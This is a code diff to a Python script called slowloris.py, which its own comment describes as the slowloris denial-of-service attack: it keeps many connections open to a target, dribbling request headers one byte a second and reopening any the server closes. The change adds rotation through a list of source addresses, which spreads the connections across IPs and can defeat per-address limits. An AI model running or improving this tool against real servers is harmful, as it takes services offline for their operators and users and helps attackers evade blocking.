@@ -1,5 +1,7 @@
 #!/usr/bin/env python3
-# slowloris.py HOST PORT CONNECTIONS SECONDS: the slowloris attack.  Keeps
+# slowloris.py HOST PORT CONNECTIONS SECONDS [SOURCES]: the slowloris
+# attack, from each address of SOURCES (a comma-separated list) in turn
+# when given.  Keeps
 # CONNECTIONS connections to HOST:PORT, each sending a request's headers
 # one byte a second and never finishing them; a connection the server
 # closes is opened again at once.  After SECONDS it prints
@@ -13,14 +15,20 @@ import sys
 import time
 
 HOST, PORT, N, SECONDS = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4])
+SOURCES = sys.argv[5].split(",") if len(sys.argv) > 5 else []
+opened_count = 0
 conns = {}  # socket -> opened at
 most_open = deadline_closed = refused = 0
 end = time.monotonic() + SECONDS
 
 
 def open_one():
+    global opened_count
     s = socket.socket()
     s.setblocking(False)
+    if SOURCES:
+        s.bind((SOURCES[opened_count % len(SOURCES)], 0))
+        opened_count += 1
     try:
         s.connect((HOST, PORT))
     except BlockingIOError:
